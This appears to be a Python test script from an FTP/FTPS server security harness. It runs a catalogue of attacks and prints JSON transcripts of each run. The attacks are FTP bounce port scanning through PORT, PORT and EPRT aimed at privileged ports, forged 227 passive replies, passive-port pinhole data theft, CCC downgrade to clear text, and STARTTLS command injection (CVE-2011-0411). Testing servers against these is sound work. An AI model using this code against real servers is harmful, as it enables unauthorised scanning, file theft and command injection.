#!/usr/bin/env python3
"""More attacks of the catalogue, each in clear or, with --tls CA, inside FTPS (see attack.py's --tls); each
prints a JSON transcript. Stdlib only.

  attack_extra.py [--tls CA] scan HOST PORT VICTIM_IP PORT,PORT...
      Port scan through PORT: PORT naming each victim port, then LIST.
  attack_extra.py [--tls CA] privileged HOST PORT OWN_IP
      PORT and EPRT naming the client's own address at a port below 1024 (21 and 80), then LIST.
  attack_extra.py [--tls CA] forged227 HOST PORT USER
      Through a forward listener to attack.py's evilftpd, whose 227 names the victim: PASV, then LIST.
  attack_extra.py [--tls CA] theft HOST PORT FILE
      The victim of a pinhole theft: PASV, prints {"pinhole": PORT}, waits for a line on stdin (the thief has
      tried), then connects to the pinhole and RETR FILE.
  attack_extra.py [--tls CA] thief HOST PORT
      The thief: connects to the pinhole first (with --tls a TLS handshake of its own: it has no session to
      resume) and reads whatever comes.
  attack_extra.py --tls CA ccc HOST PORT
      CCC (back to clear text) after the login.
  attack_extra.py --tls CA inject HOST PORT
      STARTTLS command injection (CVE-2011-0411): "AUTH TLS" and "USER injected" in one clear segment, then
      the handshake and PWD: a server that executed the injected USER answers it with 331 inside TLS.
"""
import json, re, socket, ssl, sys

import attack
from attack import Control, close_data, eprt_arg, jprint, port_arg


def login(host, port, user="anonymous"):
    c = Control(host, port)
    c.login(user, "attacker@example.org")
    return c


def listing(c, verb, arg):
    code, _ = c.cmd("%s %s" % (verb, arg), timeout=15)
    lcode, _ = c.cmd("LIST", timeout=15)
    final = c.reply(timeout=15)[0] if lcode in (125, 150) else None
    return {"verb": verb, "reply": code, "list": lcode, "final": final}


def scan(host, port, victim_ip, ports):
    c = login(host, port)
    results = [listing(c, "PORT", port_arg(victim_ip, int(p))) for p in ports.split(",")]
    c.cmd("QUIT")
    jprint({"results": results, "transcript": c.transcript})


def privileged(host, port, own_ip):
    c = login(host, port)
    results = [listing(c, "PORT", port_arg(own_ip, 21)), listing(c, "EPRT", eprt_arg(own_ip, 80))]
    c.cmd("QUIT")
    jprint({"results": results, "transcript": c.transcript})


def forged227(host, port, user):
    c = login(host, port, user)
    code, _ = c.cmd("PASV")
    lcode, _ = c.cmd("LIST", timeout=20)
    final = c.reply(timeout=15)[0] if lcode in (125, 150) else None
    c.cmd("QUIT")
    jprint({"results": [{"verb": "PASV", "reply": code, "list": lcode, "final": final}], "transcript": c.transcript})


def theft(host, port, name):
    c = login(host, port)
    c.cmd("TYPE I")
    code, lines = c.cmd("PASV")
    m = re.search(r"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", lines[-1] if lines else "")
    pinhole = int(m.group(5)) * 256 + int(m.group(6)) if m else 0
    print(json.dumps({"pinhole": pinhole}), flush=True)
    sys.stdin.readline()
    got, rcode, final, error, data = b"", None, None, None, None
    try:
        data = socket.create_connection((host, pinhole), timeout=10)
    except OSError as e:  # the pinhole is gone (a thief used it): RETR all the same, as a client would
        error = "data connection: %s: %s" % (type(e).__name__, e)
        c.transcript.append("--- " + error)
    c.transcript.append("--> RETR " + name)
    c.sock.sendall(("RETR %s\r\n" % name).encode())
    try:
        data = c.data(data) if data else None
    except OSError as e:
        error, data = "data TLS: %s: %s" % (type(e).__name__, e), None
        c.transcript.append("--- " + error)
    rcode, _ = c.reply(timeout=20)
    if rcode in (125, 150):
        got, why = read_all(data, 20)
        error = ("data: " + why) if why else error
        if data:
            close_data(data)
        final, _ = c.reply(timeout=30)
    c.cmd("QUIT")
    jprint({"results": [{"verb": "PASV", "reply": code, "retr": rcode, "final": final}], "bytes": len(got),
            "first": got[:60].decode("latin-1"), "error": error, "transcript": c.transcript})


def read_all(s, timeout):
    """Everything until EOF, and the error that ended it early (None at EOF): what arrived counts either way."""
    got = b""
    try:
        s.settimeout(timeout)
        while True:
            chunk = s.recv(4096)
            if not chunk:
                return got, None
            got += chunk
    except (OSError, AttributeError) as e:
        return got, "%s: %s" % (type(e).__name__, e)


def thief(host, port):
    out, got = {"connected": False, "tls": None}, b""
    try:
        s = socket.create_connection((host, int(port)), timeout=5)
        out["connected"] = True
        if attack.CA:
            try:
                s = ssl.create_default_context(cafile=attack.CA).wrap_socket(s, server_hostname=host)
                out["tls"] = "%s, resumed %s" % (s.version(), s.session_reused)
            except (OSError, ssl.SSLError) as e:
                out.update({"tls": "failed: %s" % e, "bytes": 0, "first": ""})
                return jprint(out)
        got, why = read_all(s, 10)
        if why:
            out["error"] = why
    except (OSError, ssl.SSLError) as e:
        out["error"] = "%s: %s" % (type(e).__name__, e)
    out.update({"bytes": len(got), "first": got[:60].decode("latin-1")})
    jprint(out)


def ccc(host, port):
    c = login(host, port)
    code, _ = c.cmd("CCC")
    pcode, _ = c.cmd("PWD")
    c.cmd("QUIT")
    jprint({"results": [{"verb": "CCC", "reply": code, "then PWD": pcode}], "transcript": c.transcript})


def inject(host, port):
    c = Control(host, port)
    c.reply()
    c.transcript.append("--> AUTH TLS + USER injected (one segment)")
    c.sock.sendall(b"AUTH TLS\r\nUSER injected\r\n")
    code, _ = c.reply()
    pcode = None
    if code == 234:
        c.sock = c.ctx.wrap_socket(c.sock, server_hostname=host)
        pcode, _ = c.cmd("PWD")
    c.cmd("QUIT")
    jprint({"results": [{"verb": "AUTH TLS+USER", "reply": code, "then PWD": pcode}], "transcript": c.transcript})


if __name__ == "__main__":
    args = sys.argv[1:]
    if args[0] == "--tls":
        attack.CA, args = args[1], args[2:]
    {"scan": scan, "privileged": privileged, "forged227": forged227, "theft": theft, "thief": thief, "ccc": ccc,
     "inject": inject}[args[0]](*args[1:])
